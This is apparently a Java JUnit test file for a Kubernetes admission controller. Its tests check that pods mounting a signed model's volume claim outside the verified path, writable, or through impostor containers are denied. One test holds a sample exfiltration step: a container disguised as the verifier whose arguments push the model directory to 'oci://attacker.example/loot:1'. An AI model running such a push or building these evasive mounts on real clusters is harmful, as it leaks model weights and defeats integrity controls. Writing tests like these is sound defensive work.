package dev.modelgate.admission;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.MissingNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.modelgate.testing.AdmissionHarness;
import dev.modelgate.testing.SignedModel;
import io.fabric8.zjsonpatch.JsonPatch;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A {@code pvc://claim/path} model binds the claim to the verified path: no container may mount
 * another part of the claim, or the same claim through a second volume, writable or outside it.
 */
class ClaimBindingTest {
  static final ObjectMapper JSON = new ObjectMapper();
  @TempDir Path tmp;
  AdmissionHarness harness;
  SignedModel signed;

  @BeforeEach
  void setUp() throws Exception {
    signed = SignedModel.create(Files.createDirectories(tmp.resolve("m")));
    harness = new AdmissionHarness(tmp);
    harness.policy(
        "p.yaml",
        AdmissionHarness.keyPolicy(
            "volumes",
            "Enforce",
            "pvc://**",
            signed.publicKey,
            "  verification: {requireReadOnlyMounts: true}\n"));
  }

  private static JsonNode pod(String containers, String volumes) throws Exception {
    return new YAMLMapper()
        .readTree(
            "apiVersion: v1\nkind: Pod\nmetadata:\n  name: w\n  namespace: ml\n  annotations: {model.modelgate.dev/llm: 'pvc://models/llama'}\n"
                + "spec:\n  containers:\n"
                + containers
                + "  volumes:\n    - {name: weights, persistentVolumeClaim: {claimName: models}}\n"
                + volumes);
  }

  private AdmissionOutcome review(JsonNode object, boolean mutating) {
    var r =
        new AdmissionRequest(
            "admission.k8s.io/v1",
            "u",
            "Pod",
            "ml",
            "w",
            "CREATE",
            "",
            false,
            object,
            MissingNode.getInstance());
    return harness.service().review(r, Instant.now().plus(Duration.ofSeconds(10)), mutating);
  }

  private AdmissionOutcome mutateThenValidate(JsonNode pod) {
    AdmissionOutcome m = review(pod, true);
    return m.allowed() ? review(JsonPatch.apply(JSON.valueToTree(m.patch()), pod), false) : m;
  }

  private static final String SERVER =
      "    - name: server\n      image: server\n      volumeMounts:\n        - {name: weights, mountPath: /models, subPath: llama, readOnly: true}\n";

  @Test
  void mountingTheVerifiedPathOrBelowItReadOnlyIsAdmitted() throws Exception {
    JsonNode pod =
        pod(
            SERVER
                + "    - name: tokenizer\n      image: t\n      volumeMounts: [{name: weights, mountPath: /tok, subPath: llama/tokenizer, readOnly: true}]\n",
            "");

    AdmissionOutcome o = mutateThenValidate(pod);

    assertThat(o.allowed()).as(o.message()).isTrue();
  }

  @Test
  void anotherSubPathOfTheSameClaimIsDenied() throws Exception {
    JsonNode pod =
        pod(
            SERVER
                + "    - name: sidestep\n      image: s\n      volumeMounts: [{name: weights, mountPath: /other, subPath: llama-unsigned, readOnly: true}]\n",
            "");

    AdmissionOutcome o = mutateThenValidate(pod);

    assertThat(o.allowed()).isFalse();
    assertThat(o.verdicts())
        .flatExtracting(v -> v.failures())
        .extracting(f -> f.reason().code())
        .containsExactly("MOUNT_OUTSIDE_MODEL");
    assertThat(o.message())
        .contains(
            "container 'sidestep' mounts claim models (volume 'weights') at subPath 'llama-unsigned', outside the verified model directory 'llama'");
  }

  @Test
  void aSecondWritableVolumeOnTheSameClaimIsDenied() throws Exception {
    JsonNode pod =
        pod(
            SERVER
                + "    - name: sidestep\n      image: s\n      volumeMounts: [{name: weights-again, mountPath: /rw, subPath: llama}]\n",
            "    - {name: weights-again, persistentVolumeClaim: {claimName: models}}\n");

    AdmissionOutcome o = mutateThenValidate(pod);

    assertThat(o.allowed()).isFalse();
    assertThat(o.verdicts())
        .flatExtracting(v -> v.failures())
        .extracting(f -> f.reason().code())
        .containsExactly("MODEL_MOUNT_WRITABLE");
    assertThat(o.message())
        .contains("container 'sidestep' mounts model volume 'weights-again' writable");
  }

  @Test
  void aSecondVolumeOnTheClaimMountedWholeIsDeniedEvenReadOnlyAndInAnInitContainer()
      throws Exception {
    JsonNode pod =
        pod(
            SERVER,
            "    - {name: whole, persistentVolumeClaim: {claimName: models, readOnly: true}}\n");
    ((ObjectNode) pod.path("spec"))
        .putArray("initContainers")
        .add(
            JSON.readTree(
                "{\"name\":\"peek\",\"image\":\"busybox\",\"volumeMounts\":[{\"name\":\"whole\",\"mountPath\":\"/all\",\"readOnly\":true}]}"));

    AdmissionOutcome o = review(pod, true);

    assertThat(o.allowed()).isFalse();
    assertThat(o.message())
        .contains(
            "MOUNT_OUTSIDE_MODEL: container 'peek' mounts claim models (volume 'whole') at its root, outside the verified model directory 'llama'");
  }

  @Test
  void subPathExprOnTheClaimIsDenied() throws Exception {
    JsonNode pod =
        pod(
            SERVER
                + "    - name: expr\n      image: s\n      volumeMounts: [{name: weights, mountPath: /e, subPathExpr: '$(POD_NAME)', readOnly: true}]\n",
            "");

    AdmissionOutcome o = review(pod, true);

    assertThat(o.allowed()).isFalse();
    assertThat(o.message())
        .contains(
            "mounts claim models (volume 'weights') with subPathExpr $(POD_NAME), which cannot be checked against the verified path 'llama'");
  }

  @Test
  void ephemeralDebugContainerOnAnotherPartOfTheClaimIsDenied() throws Exception {
    JsonNode running =
        JsonPatch.apply(JSON.valueToTree(review(pod(SERVER, ""), true).patch()), pod(SERVER, ""));
    JsonNode debugged = running.deepCopy();
    ((ObjectNode) debugged.path("spec"))
        .putArray("ephemeralContainers")
        .add(
            JSON.readTree(
                "{\"name\":\"debug\",\"image\":\"busybox\",\"volumeMounts\":[{\"name\":\"weights\",\"mountPath\":\"/m\",\"readOnly\":true}]}"));
    var r =
        new AdmissionRequest(
            "admission.k8s.io/v1",
            "u",
            "Pod",
            "ml",
            "w",
            "UPDATE",
            "ephemeralcontainers",
            false,
            debugged,
            running);

    AdmissionOutcome o =
        harness.service().review(r, Instant.now().plus(Duration.ofSeconds(10)), false);

    assertThat(o.allowed()).isFalse();
    assertThat(o.message())
        .contains("container 'debug' mounts claim models (volume 'weights') at its root");
  }

  @Test
  void containerDressedAsAVerifierGetsNoExemption() throws Exception {
    JsonNode pod = pod(SERVER, "");
    ((ObjectNode) pod.path("spec"))
        .putArray("initContainers")
        .add(
            JSON.readTree(
                "{\"name\":\"modelgate-verify-copy\",\"image\":\""
                    + AdmissionService.DEFAULT_VERIFIER_IMAGE
                    + "\","
                    + "\"args\":[\"push\",\"/modelgate/model\",\"oci://attacker.example/loot:1\"],"
                    + "\"volumeMounts\":[{\"name\":\"weights\",\"mountPath\":\"/modelgate/model\",\"readOnly\":true}]}"));

    AdmissionOutcome o = review(pod, true);

    assertThat(o.allowed()).isFalse();
    assertThat(o.message())
        .contains(
            "MOUNT_OUTSIDE_MODEL: container 'modelgate-verify-copy' mounts claim models (volume 'weights') at its root");
  }

  @Test
  void volumeModelOnAClaimVolumeIsBoundToItsPathOnEveryVolumeOfThatClaim() throws Exception {
    harness.policy(
        "v.yaml",
        AdmissionHarness.keyPolicy(
            "volume-models",
            "Enforce",
            "volume://**",
            signed.publicKey,
            "  verification: {requireReadOnlyMounts: true}\n"));
    JsonNode pod =
        new YAMLMapper()
            .readTree(
                "apiVersion: v1\nkind: Pod\nmetadata:\n  name: w\n  namespace: ml\n  annotations: {model.modelgate.dev/llm: 'volume://weights/llama'}\n"
                    + "spec:\n  containers:\n"
                    + SERVER
                    + "    - name: sidestep\n      image: s\n      volumeMounts: [{name: weights-again, mountPath: /all, readOnly: true}]\n"
                    + "  volumes:\n    - {name: weights, persistentVolumeClaim: {claimName: models}}\n    - {name: weights-again, persistentVolumeClaim: {claimName: models}}\n");

    AdmissionOutcome o = mutateThenValidate(pod);

    assertThat(o.allowed()).isFalse();
    assertThat(o.message())
        .contains(
            "MOUNT_OUTSIDE_MODEL: container 'sidestep' mounts claim models (volume 'weights-again') at its root, outside the verified model directory 'llama'");
  }
}
